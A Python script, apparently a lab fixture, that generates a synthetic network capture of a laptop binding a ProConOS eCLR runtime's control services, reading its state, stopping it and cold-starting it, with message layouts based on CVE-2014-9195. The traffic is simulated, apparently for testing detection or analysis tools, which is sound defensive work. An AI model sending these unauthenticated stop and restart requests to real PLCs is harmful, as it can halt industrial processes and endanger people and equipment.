"""A laptop binds the control service of a ProConOS eCLR runtime, reads its state, stops it and starts it cold.

kind: S
expect: tcp.port == 41100 && tcp.len > 0 => 12
"""

import struct

from tools.lab import output
from tools.session import Tape, TcpSession, laptop, plc


# Layout: what is public of CVE-2014-9195. All words have the low octet first; the last is a checksum or 0.
def call(kind, handle, method, body=b"", summed=False):
    words = (1, kind, 0, len(body), handle, method, 0)
    check = ~sum(words) & 0xFFFF if summed else 0
    return struct.pack("<8H", *words, check) + body


def bind(name):
    return call(0, 0, 0, f"Ade.Remoting.Services.I{name}\0".encode(), summed=True)


tape = Tape()
tape.resolve(laptop, plc)
talk = TcpSession(tape, laptop, plc, 41100, 50291)
talk.open()
for name, handle in (("ProConOSControlService2", 0), ("ProConOSControlService", 1), ("DeviceInfoService", 2)):
    talk.exchange(bind(name), call(1, handle, 0, summed=True))
    tape.wait(20)
talk.exchange(call(2, 2, 3, struct.pack("<IH", 1, 0x4002)), call(3, 2, 3, struct.pack("<I", 1) + b"\x04\x09\0\0\x03\x10\0\x01"))
tape.wait(200)
talk.exchange(call(2, 1, 7), call(3, 1, 7))
tape.wait(2000)
talk.exchange(call(2, 1, 6, struct.pack("<H", 1)), call(3, 1, 6))
talk.close()
tape.save(output())
